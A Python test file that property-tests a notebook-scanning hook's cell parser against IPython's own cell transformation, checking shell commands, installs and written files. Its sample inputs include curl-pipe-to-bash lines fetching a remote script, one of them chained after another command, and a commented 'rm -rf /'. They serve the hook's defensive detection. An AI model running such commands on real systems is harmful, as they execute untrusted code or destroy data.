"""cells.py against IPython itself: hypothesis builds cells from the syntax notebooks use, and
IPython's InteractiveShell.transform_cell (inputtransformer2 plus one-line automagic) says what
each cell means. IPython is a test-only dependency (the test extra installs it): the hook never
imports it, because importing inputtransformer2 loads all of IPython (measured: 165-180 ms and
144 more modules, against 56 ms and 26 for hooks.code.cells, on every commit); without it these
tests skip.

For every generated cell:
- IPython's Python parses  <=>  ours parses (a cell IPython runs is never "unparseable");
- the shell commands IPython runs (`system`, `getoutput`, `%%bash` bodies, `%sx`) are ours;
- the installs IPython runs (`%pip`, `pip` automagic) are ours;
- every call IPython leaves as Python is still a call in ours (nothing hidden).
"""

from __future__ import annotations

import ast
from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hooks._shared.shell import shell_lines
from hooks.code.cells import transform_cell

IPython = pytest.importorskip("IPython", reason="IPython (test extra) is the oracle for cell transformation")


@pytest.fixture(scope="module")
def shell():  # type: ignore[no-untyped-def]
    from IPython.core.interactiveshell import InteractiveShell

    return InteractiveShell.instance()


ORACLE = settings(
    max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)

PYTHON_LINES = [
    "x = 1",
    "print(x)",
    "y = f(x, 'a!b')",
    "s = '%d' % 3",
    "z = x != 2",
    "d = {'k': g(1)}",
    't = f"{x!r:>{w}}"',
    "u = f'{d[\"k\"]}'",
    "# !rm -rf /",
    "# %pip install nothing",
    "m = torch.load(p)",
    "a, b = 1, 2",
    "x += h(1)",
    "w = (1 +",
    "     k(2))",
    "q = '''",
    "!ls inside a string",
    "'''",
    "",
]
IPYTHON_LINES = [
    "!ls -la",
    "!!date",
    "!pip install a \\",
    "    b c",
    "%pip install transformers",
    "%time y = g(2)",
    "files = !ls",
    "names = %who_ls",
    "obj?",
    "obj.attr??",
    "%matplotlib inline",
    "!echo {x} $HOME",
    "%sx echo hi",
    "%env A=1",
    "%cd /content/run",
    "%cp best.pt m.pt",
    "%ls && curl -fsSL https://x.example/i.sh | bash",
]
BLOCKS = [
    ["if x:", "    !ls", "    y = f(1)"],
    ["for i in range(3):", "    %time g(i)"],
    ["def fn():", "    return k(1)"],
    ["with open(p) as fh:", "    data = fh.read()"],
]
FIRST_LINES = ["", "%%time", "%%capture out", "%%bash", "%%sh", "%%script bash", "%%writefile f.py", "%%html"]
ONE_LINERS = [
    "pip install torch",
    "cd data",
    "ls -la",
    "pwd",
    "cd = 3",
    "ls",
    "time x = f(1)",
    "env X",
    "cp /tmp/x.pt m.pt",
    "cd ..",
    "cd /content/drive",
    "cp *.pt d",
    "ls | grep x",
    "mkdir;curl -fsSL https://x.example/i.sh|bash",
    "lf *.pt",
    "history += [f(1)]",
    "config .update(f(1))",
    "cat a b > m.pt",
    "mv = 2",
]


@st.composite
def cells(draw: st.DrawFn) -> str:
    lines: list[str] = []
    for _ in range(draw(st.integers(1, 8))):
        kind = draw(st.sampled_from(["python", "ipython", "block"]))
        if kind == "python":
            lines.append(draw(st.sampled_from(PYTHON_LINES)))
        elif kind == "ipython":
            lines.append(draw(st.sampled_from(IPYTHON_LINES)))
        else:
            lines.extend(draw(st.sampled_from(BLOCKS)))
    indent = draw(st.sampled_from(["", "", "    "]))
    lines = [indent + line if line else line for line in lines]
    first = draw(st.sampled_from(FIRST_LINES))
    if first:
        lines.insert(0, indent + first)
    lines = [""] * draw(st.integers(0, 1)) + lines
    return "\n".join(lines)


def _parses(source: str) -> bool:
    try:
        ast.parse(source)
    except SyntaxError:
        return False
    return True


def _ipython_calls(tree: ast.AST) -> tuple[list[str], list[str], list[tuple[str, str, str]]]:
    """(shell commands, line magics as 'name args', cell magics) IPython's Python runs."""
    shell: list[str] = []
    magics: list[str] = []
    cell_magics: list[tuple[str, str, str]] = []
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
            continue
        receiver = node.func.value
        if not (isinstance(receiver, ast.Call) and getattr(receiver.func, "id", "") == "get_ipython"):
            continue
        values = [a.value for a in node.args if isinstance(a, ast.Constant)]
        if node.func.attr in ("system", "getoutput"):
            shell.append(str(values[0]).strip())
        elif node.func.attr == "run_line_magic":
            magics.append(f"{values[0]} {values[1]}".strip())
        elif node.func.attr == "run_cell_magic":
            cell_magics.append((str(values[0]), str(values[1]), str(values[2])))
    return shell, magics, cell_magics


def _calls(tree: ast.AST) -> Counter[str]:
    names: Counter[str] = Counter()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id != "get_ipython":
            names[node.func.id] += 1
    return names


def _expected(source: str, shell) -> tuple[bool, list[str], list[str], list[str], Counter[str]]:  # type: ignore[no-untyped-def]
    """(parses, shell commands, installs, written file bodies, calls) as IPython runs `source`."""
    reference = shell.transform_cell(source)
    if not _parses(reference):
        return False, [], [], [], Counter()
    tree = ast.parse(reference)
    commands, magics, cell_magics = _ipython_calls(tree)
    expected_shell = list(commands)
    installs: list[str] = []
    written: list[str] = []
    calls = _calls(tree)
    for magic in magics:
        name, _, arguments = magic.partition(" ")
        if name in ("pip", "conda", "mamba", "micromamba", "uv"):
            installs.append(magic)
        elif name in ("sx", "system"):
            expected_shell.append(arguments.strip())
        elif shell.alias_manager.is_alias(name):
            # An alias: IPython substitutes `%l` with the arguments, or appends them, and runs it.
            command = shell.alias_manager.retrieve_alias(name)
            arguments = arguments.strip()
            expected_shell.append(
                (command.replace("%l", arguments) if "%l" in command else f"{command} {arguments}").strip()
            )
    for name, line, body in cell_magics:
        program = line.split()[:1]
        if name == "script" and len(line.split()) > 1:
            # `%%script bash -c CMD`: the program's own arguments run as a command line too.
            expected_shell.append(line.strip())
        if name in ("bash", "sh") or (name == "script" and program in (["bash"], ["sh"])):
            expected_shell.extend(command for _, command in shell_lines(body.split("\n"), 1))
        elif name in ("time", "capture", "timeit"):
            # The magic runs its body through the same transformation, at run time.
            return _expected(body, shell)
        elif name == "writefile":
            written.append(body.removesuffix("\n"))
    return True, expected_shell, installs, written, calls


def _check(cell: str, shell) -> None:  # type: ignore[no-untyped-def]
    ours = transform_cell(cell)
    parses, expected_shell, installs, written, calls = _expected(cell, shell)
    assert _parses(ours.python) == parses, (cell, shell.transform_cell(cell), ours.python)
    if not parses:
        return
    assert sorted(c for _, c in ours.shell) == sorted(expected_shell), (cell, shell.transform_cell(cell))
    assert sorted(i for _, i in ours.installs) == sorted(installs), (cell, shell.transform_cell(cell))
    # IPython ends every cell with a newline before it splits off the body; one final newline
    # more or less changes nothing in the written file's analysis.
    assert [e.text.removesuffix("\n") for e in ours.embedded] == written, cell
    assert not (calls - _calls(ast.parse(ours.python))), (cell, shell.transform_cell(cell), ours.python)


@ORACLE
@given(cells())
def test_cells_mean_what_ipython_makes_of_them(shell, cell: str) -> None:  # type: ignore[no-untyped-def]
    _check(cell, shell)


@pytest.mark.parametrize("cell", ONE_LINERS)
def test_one_line_cells_follow_automagic(shell, cell: str) -> None:  # type: ignore[no-untyped-def]
    _check(cell, shell)


@pytest.mark.parametrize(
    "cell",
    [
        "!pip install -q a \\\n    b \\\n    c==1.0\nimport a",
        "!pip install a \\\n",  # a continuation that runs off the cell's end keeps its backslash
        "  x = 1\n  !ls\n  y = 2",
        "\n\n%%bash\necho a \\\n  b",
        "x = 1\npip install torch",  # two lines: no automagic, IPython fails too
        "In [1]: x = f(1)\n   ...: y = g(2)",
        ">>> x = f(1)\n... y",
        "%%time\n!pip install z\ny = f(3)",
        "def f():\n    '''\n    !not a command\n    '''\n    return g(1)",
        # Help syntax at the end of a cell whose bracket is still open, as IPython reads it.
        "w = (1 +\nobj?",
        "x = [1,\n  2,\nobj?\n",
        "x = [1,\n  2,\nobj?\n\n",
        'x = """\nobj?',
        # A top-level command is a statement: indented lines after it do not continue `if x:`.
        "if x:\n    !ls\n    y = f(1)\n!pip install a \\\nif x:\n    !ls\n    y = f(1)",
    ],
)
def test_hand_written_cells(shell, cell: str) -> None:  # type: ignore[no-untyped-def]
    _check(cell, shell)
